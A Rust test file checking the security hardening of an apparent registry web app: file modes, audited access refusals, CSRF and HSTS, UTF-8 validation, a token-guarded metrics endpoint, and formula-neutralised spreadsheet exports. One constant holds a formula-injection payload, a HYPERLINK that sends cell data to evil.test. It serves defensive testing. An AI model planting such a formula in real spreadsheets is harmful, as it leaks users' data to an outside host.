//! Hardening of issue 13 (files and the rest of the list), on every backend: file modes of the
//! database, key file and uploads and the refusal of an exposed key file; audited refusals of
//! out-of-scope reads and CSRF; the CSRF check against the configured public origin and HSTS;
//! page forms refusing malformed UTF-8; `/metrics` behind a token; ID numbers of the 2023
//! foreign permanent-residence format; formula-neutralised exports.

use axum::body::Body;
use axum::http::{Request, StatusCode, header};
use backstop_app::Config;
use serde_json::{Value, json};

use crate::support::{
    T, audit_count, backends, cid, count, each_backend, each_backend_with, web_login, xlsx_text,
};

const V1: &str = "130110100001";
const V2: &str = "130110100002";
const FORMULA: &str = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"点击\")";

/// A request with explicit CSRF-relevant headers (and a Host that is NOT the public origin's,
/// so only the configured origin can make it pass).
async fn post_with(t: &T, path: &str, headers: &[(&str, &str)], body: &str) -> StatusCode {
    let mut req = Request::builder()
        .method("POST")
        .uri(path)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded");
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    t.send(req.body(Body::from(body.to_string())).expect("request"))
        .await
        .0
}

async fn failures(t: &T, action: &str) -> i64 {
    count(
        t,
        &format!(
            "SELECT CAST(COUNT(*) AS BIGINT) FROM audit_log \
             WHERE action = '{action}' AND outcome = 'failure'"
        ),
    )
    .await
}

#[cfg(unix)]
#[tokio::test]
async fn files_are_private_and_an_exposed_key_file_stops_the_start() {
    use std::os::unix::fs::PermissionsExt;
    let mode = |p: &std::path::Path| {
        std::fs::metadata(p)
            .unwrap_or_else(|e| panic!("{}: {e}", p.display()))
            .permissions()
            .mode()
            & 0o777
    };
    for (name, url, _dir) in backends().await {
        let root = tempfile::tempdir().expect("tempdir");
        let data = root.path().join("data");
        let url = if name == "sqlite" {
            format!("sqlite://{}", data.join("backstop.db").display())
        } else {
            url
        };
        let key = data.join("keys").join("master.key");
        let uploads = data.join("uploads");
        let config = Config {
            upload_dir: Some(uploads.clone()),
            ..Config::default()
        };
        let t = T::open(&name, &url, None, config.clone()).await;
        let state = backstop_app::open(
            &url,
            &key,
            std::sync::Arc::new(backstop_core::clock::SystemClock),
            config.clone(),
        )
        .await
        .expect("open");
        state.db.close().await;
        if name == "sqlite" {
            assert_eq!(mode(&data), 0o700, "{name}: data dir");
            assert_eq!(mode(&data.join("backstop.db")), 0o600, "{name}: database");
            // SQLite gives its journal files the database file's mode (while open).
            for side in ["backstop.db-wal", "backstop.db-shm"] {
                let p = data.join(side);
                if p.exists() {
                    assert_eq!(mode(&p), 0o600, "{name}: {side}");
                }
            }
        }
        assert_eq!(mode(&data.join("keys")), 0o700, "{name}: key dir");
        assert_eq!(mode(&key), 0o600, "{name}: key file");

        // An upload waiting for its job: 0600 in a 0700 folder.
        t.import_fixture().await;
        let token = t.user("fm_off", &["official"], "130110").await;
        let boundary = "hardeningBoundary1";
        let body = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.csv\"\r\n\
             Content-Type: text/csv\r\n\r\n身份证号,姓名\r\n--{boundary}--\r\n"
        );
        let req = Request::builder()
            .method("POST")
            .uri("/persons/import")
            .header(header::HOST, "backstop.test")
            .header(header::ORIGIN, "http://backstop.test")
            .header(header::COOKIE, format!("backstop={token}"))
            .header(
                header::CONTENT_TYPE,
                format!("multipart/form-data; boundary={boundary}"),
            )
            .body(Body::from(body))
            .expect("request");
        let (s, _, _) = t.send(req).await;
        assert_eq!(s, StatusCode::SEE_OTHER, "{name}: upload");
        assert_eq!(mode(&uploads), 0o700, "{name}: upload dir");
        let files: Vec<_> = std::fs::read_dir(&uploads)
            .expect("uploads")
            .filter_map(Result::ok)
            .map(|e| e.path())
            .collect();
        assert!(!files.is_empty(), "{name}: the upload is kept for its job");
        for f in &files {
            assert_eq!(mode(f), 0o600, "{name}: {}", f.display());
        }
        t.state.db.close().await;

        // A key file others can read: the service refuses to start and says how to fix it.
        std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o644)).expect("chmod");
        let Err(err) = backstop_app::open(
            &url,
            &key,
            std::sync::Arc::new(backstop_core::clock::SystemClock),
            config,
        )
        .await
        else {
            panic!("{name}: an exposed key file must stop the start");
        };
        let text = err.to_string();
        assert!(
            text.contains("chmod 600") && text.contains(&key.display().to_string()),
            "{name}: {text}"
        );
    }
}

#[tokio::test]
async fn out_of_scope_reads_are_audited_without_personal_data() {
    each_backend(|t: T| async move {
        t.import_fixture().await;
        let w1 = t.user("den_w1", &["community_worker"], V1).await;
        let w2 = t.user("den_w2", &["community_worker"], V2).await;
        let number = cid("130110", "19700101", 21);
        let (s, b) = t
            .post(
                "/api/v1/persons",
                &w2,
                json!({"id_number": number, "name": "赵六", "region_code": V2}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{b}");
        let id = b["id"].as_i64().expect("id");
        assert_eq!(failures(&t, "access.denied").await, 0);

        // A record fetched by id (Scoped::admit), through the API and a page.
        let (s, _) = t.get(&format!("/api/v1/persons/{id}"), &w1).await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        assert_eq!(failures(&t, "access.denied").await, 1);
        let cookie = web_login(&t, "den_w1").await;
        let (s, _) = crate::support::page(&t, &format!("/persons/{id}"), &cookie).await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        assert_eq!(failures(&t, "access.denied").await, 2);
        // A region outside the scope (Actor::within).
        let (s, _) = t.get(&format!("/api/v1/persons?region={V2}"), &w1).await;
        assert_eq!(s, StatusCode::NOT_FOUND);
        assert_eq!(failures(&t, "access.denied").await, 3);
        // Allowed reads are not recorded as refusals.
        let (s, _) = t.get(&format!("/api/v1/persons/{id}"), &w2).await;
        assert_eq!(s, StatusCode::OK);
        assert_eq!(failures(&t, "access.denied").await, 3);

        let rows: Vec<(String, String, String)> = sqlx::query_as(
            "SELECT username, region_code, detail FROM audit_log \
             WHERE action = 'access.denied' ORDER BY id",
        )
        .fetch_all(t.state.db.pool())
        .await
        .expect("rows");
        for (user, region, detail) in &rows {
            assert_eq!((user.as_str(), region.as_str()), ("den_w1", V1), "{detail}");
            assert!(
                !detail.contains("赵六") && !detail.contains(&number),
                "no personal data: {detail}"
            );
        }
        let first: Value = serde_json::from_str(&rows[0].2).expect("json");
        assert_eq!(first["route"], "/api/v1/persons/{id}");
        assert_eq!(first["kind"], "record");
        assert_eq!(first["region"], V2);
        let last: Value = serde_json::from_str(&rows[2].2).expect("json");
        assert_eq!(last["kind"], "region");
    })
    .await;
}

#[tokio::test]
async fn csrf_compares_scheme_host_and_port_with_the_public_origin() {
    let config = Config {
        public_origin: backstop_app::kernel::web::normalize_origin("http://backstop.test"),
        ..Config::default()
    };
    each_backend_with(config, |t: T| async move {
        t.make_user("csrf_u", &["official"], "130110").await;
        let form = "username=csrf_u&password=x";
        let refused = [
            vec![("origin", "https://backstop.test")],
            vec![("origin", "http://backstop.test:8080")],
            vec![("origin", "http://evil.test"), ("host", "evil.test")],
            vec![("referer", "http://evil.test/login"), ("host", "evil.test")],
            vec![("origin", "null")],
            vec![("sec-fetch-site", "cross-site")],
        ];
        for (i, h) in refused.iter().enumerate() {
            assert_eq!(
                post_with(&t, "/login", h, form).await,
                StatusCode::FORBIDDEN,
                "{h:?}"
            );
            assert_eq!(failures(&t, "request.csrf_rejected").await, i as i64 + 1);
        }
        // The public origin passes whatever the Host header says; so does its Referer.
        for h in [
            vec![
                ("origin", "http://backstop.test"),
                ("host", "internal:8080"),
            ],
            vec![("origin", "http://BACKSTOP.test:80")],
            vec![("referer", "http://backstop.test/login?next=/")],
        ] {
            let s = post_with(&t, "/login", &h, form).await;
            assert_ne!(s, StatusCode::FORBIDDEN, "{h:?}");
        }
        assert_eq!(
            failures(&t, "request.csrf_rejected").await,
            refused.len() as i64
        );
        let detail: String = sqlx::query_scalar(
            "SELECT detail FROM audit_log WHERE action = 'request.csrf_rejected' LIMIT 1",
        )
        .fetch_one(t.state.db.pool())
        .await
        .expect("detail");
        assert!(
            detail.contains("/login") && !detail.contains("csrf_u"),
            "{detail}"
        );
        // Served over plain http: no HSTS.
        let (_, h, _) = t.raw("GET", "/healthz", None, None, &[]).await;
        assert!(h.get("strict-transport-security").is_none());
    })
    .await;
}

#[tokio::test]
async fn hsts_when_the_public_origin_is_https() {
    let config = Config {
        public_origin: backstop_app::kernel::web::normalize_origin("https://mz.example.cn"),
        ..Config::default()
    };
    each_backend_with(config, |t: T| async move {
        let (_, h, _) = t.raw("GET", "/login", None, None, &[]).await;
        let v = h
            .get("strict-transport-security")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("");
        assert!(v.starts_with("max-age=31536000"), "{v}");
    })
    .await;
}

#[tokio::test]
async fn page_forms_refuse_malformed_utf8() {
    each_backend(|t: T| async move {
        t.import_fixture().await;
        t.make_user("u8_w", &["community_worker"], V1).await;
        let cookie = web_login(&t, "u8_w").await;
        let before = count(&t, "SELECT CAST(COUNT(*) AS BIGINT) FROM persons").await;
        for name in ["%E5%BC", "%FF%FE", "a%C0%AFb"] {
            let body = format!("name={name}&region_code={V1}");
            let (s, _, page) = t.raw_form("POST", "/persons", Some(&cookie), &body).await;
            assert_eq!(s, StatusCode::BAD_REQUEST, "{name}");
            let page = String::from_utf8(page).expect("utf8 page");
            assert!(page.contains("UTF-8") && page.contains("未保存"), "{page}");
        }
        let (s, _, _) = t
            .raw_form("GET", "/persons?q=%E5%BC", Some(&cookie), "")
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST);
        assert_eq!(
            count(&t, "SELECT CAST(COUNT(*) AS BIGINT) FROM persons").await,
            before,
            "nothing written"
        );
        // Well-formed Chinese still goes through.
        let body = format!("name=%E5%BC%A0%E4%B8%89&region_code={V1}");
        let (s, _, _) = t.raw_form("POST", "/persons", Some(&cookie), &body).await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        assert_eq!(
            count(&t, "SELECT CAST(COUNT(*) AS BIGINT) FROM persons").await,
            before + 1
        );
    })
    .await;
}

#[tokio::test]
async fn metrics_need_a_token() {
    each_backend(|t: T| async move {
        let (s, _, _) = t.raw("GET", "/metrics", None, None, &[]).await;
        assert_eq!(s, StatusCode::NOT_FOUND, "not served without a token");
    })
    .await;
    let config = Config {
        metrics_token: Some("m-token-0123456789".into()),
        ..Config::default()
    };
    each_backend_with(config, |t: T| async move {
        let (s, _, _) = t.raw("GET", "/metrics", None, None, &[]).await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        let (s, _, _) = t
            .raw("GET", "/metrics", Some("m-token-wrong"), None, &[])
            .await;
        assert_eq!(s, StatusCode::UNAUTHORIZED);
        let (s, _, m) = t
            .raw("GET", "/metrics", Some("m-token-0123456789"), None, &[])
            .await;
        assert_eq!(s, StatusCode::OK);
        assert!(String::from_utf8_lossy(&m).contains("backstop_http_requests_total"));
    })
    .await;
}

#[tokio::test]
async fn id_numbers_of_the_2023_foreign_format_and_old_counties_are_registered() {
    each_backend(|t: T| async move {
        t.import_fixture().await;
        let w = t.user("id_w", &["community_worker"], V1).await;
        // 9 + issuing province 13 + nationality 840 + birth + sequence + check.
        let foreign = cid("913840", "19850615", 123);
        // 110103 (崇文区) was merged in 2010: the number keeps its code and is accepted.
        let old_county = cid("110103", "19600101", 11);
        for (n, name, warned) in [(foreign.as_str(), "史密斯", false), (old_county.as_str(), "钱七", true)] {
            let (s, b) = t
                .post(
                    "/api/v1/persons",
                    &w,
                    json!({"id_number": n, "name": name, "region_code": V1}),
                )
                .await;
            assert_eq!(s, StatusCode::CREATED, "{b}");
            // The warning reaches the one who registered: a code and a Chinese message.
            assert_eq!(
                b["warnings"][0]["code"].as_str() == Some("id_county_not_on_record"),
                warned,
                "{b}"
            );
        }
        // On the pages: the create redirects to the person's page, which says it.
        let cookie = crate::support::web_login(&t, "id_w").await;
        let other_old = cid("110103", "19610101", 13);
        let (s, h, _) = t
            .raw_form("POST", "/persons", Some(&cookie), &format!("id_number={other_old}&name=%E5%AD%99%E5%85%AB&region_code={V1}"))
            .await;
        assert_eq!(s, StatusCode::SEE_OTHER);
        let to = h.get("location").and_then(|v| v.to_str().ok()).unwrap_or("").to_string();
        assert!(to.contains("warn=id_county_not_on_record"), "{to}");
        let (_, html) = crate::support::page(&t, &to, &cookie).await;
        assert!(html.contains("地址码不在现行县级行政区划表中"), "{html}");
        // A leading 9 with an unknown issuing province is still refused.
        let (s, b) = t
            .post(
                "/api/v1/persons",
                &w,
                json!({"id_number": cid("999840", "19850615", 123), "name": "x", "region_code": V1}),
            )
            .await;
        assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
        assert_eq!(b["code"], "invalid_id_number");
    })
    .await;
}

fn assert_neutralised(xml: &str, what: &str) {
    assert!(
        xml.contains("'=HYPERLINK") || xml.contains("&apos;=HYPERLINK"),
        "{what}: the formula is kept as quoted text: {xml}"
    );
    assert!(
        !xml.contains(">=HYPERLINK"),
        "{what}: a cell begins with the formula"
    );
}

#[tokio::test]
async fn exports_neutralise_formula_cells() {
    each_backend(|t: T| async move {
        t.import_fixture().await;
        let w = t.user("fx_w", &["community_worker"], V1).await;
        let (s, b) = t
            .post(
                "/api/v1/persons",
                &w,
                json!({"name": FORMULA, "region_code": V1, "address": "+86 @x"}),
            )
            .await;
        assert_eq!(s, StatusCode::CREATED, "{b}");
        let (s, _, xlsx) = t
            .raw(
                "POST",
                "/api/v1/persons/export",
                Some(&w),
                Some(json!({"reason": "公式注入检查"}).to_string()),
                &[],
            )
            .await;
        assert_eq!(s, StatusCode::OK);
        let xml = xlsx_text(&xlsx);
        assert_neutralised(&xml, "persons export");
        assert!(
            xml.contains("'+86 @x") || xml.contains("&apos;+86 @x"),
            "{xml}"
        );

        // A report summary whose village carries a formula for a name.
        sqlx::query("UPDATE regions SET name = $1 WHERE code = $2")
            .bind(FORMULA)
            .bind(V2)
            .execute(t.state.db.pool())
            .await
            .expect("rename");
        t.state.caches.invalidate();
        t.make_user("fx_off", &["official"], "130110").await;
        let cookie = web_login(&t, "fx_off").await;
        let (s, _, xlsx) = t
            .raw_form("GET", crate::reports::VILLAGE_EXPORT, Some(&cookie), "")
            .await;
        assert_eq!(s, StatusCode::OK);
        assert_neutralised(&xlsx_text(&xlsx), "report export");
        assert_eq!(audit_count(&t, "report.export").await, 1);
    })
    .await;
}

/// Every text cell of every export goes through `kernel::cells` (which neutralises formulas):
/// no other source file writes text into a worksheet itself.
#[test]
fn no_export_writes_text_cells_around_the_neutraliser() {
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut stack = vec![root];
    let mut offenders = Vec::new();
    while let Some(dir) = stack.pop() {
        for e in std::fs::read_dir(&dir).expect("dir").filter_map(Result::ok) {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
                continue;
            }
            if p.extension().is_none_or(|x| x != "rs") || p.ends_with("kernel/cells.rs") {
                continue;
            }
            let text = std::fs::read_to_string(&p).expect("read");
            let code = text.split("#[cfg(test)]").next().unwrap_or("");
            for bad in [
                "write_string",
                "merge_range(",
                "write_row(",
                "write_column(",
            ] {
                if code.contains(bad) {
                    offenders.push(format!("{} uses {bad}", p.display()));
                }
            }
        }
    }
    assert!(
        offenders.is_empty(),
        "write text cells through kernel::cells::SafeCells: {offenders:?}"
    );
}
